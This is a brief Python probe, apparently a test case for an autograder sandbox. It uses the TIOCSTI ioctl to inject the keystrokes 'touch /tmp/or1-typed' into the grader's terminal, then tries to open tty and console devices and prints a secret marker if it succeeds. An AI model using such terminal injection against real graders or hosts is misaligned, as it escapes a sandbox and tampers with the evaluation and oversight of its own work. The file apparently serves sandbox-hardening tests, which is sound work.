# tries: to type commands into the terminal of the grader
# kind: stdio
# seen: wrong, runtime_error
import fcntl, os, termios
for fd in (0, 1, 2):
    for sign in b"touch /tmp/or1-typed\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([sign]))
        except OSError:
            pass
for path in ("/dev/tty", "/dev/pts/0", "/dev/console"):
    try:
        os.open(path, os.O_RDWR)
        print("@SECRET@")
    except OSError:
        pass
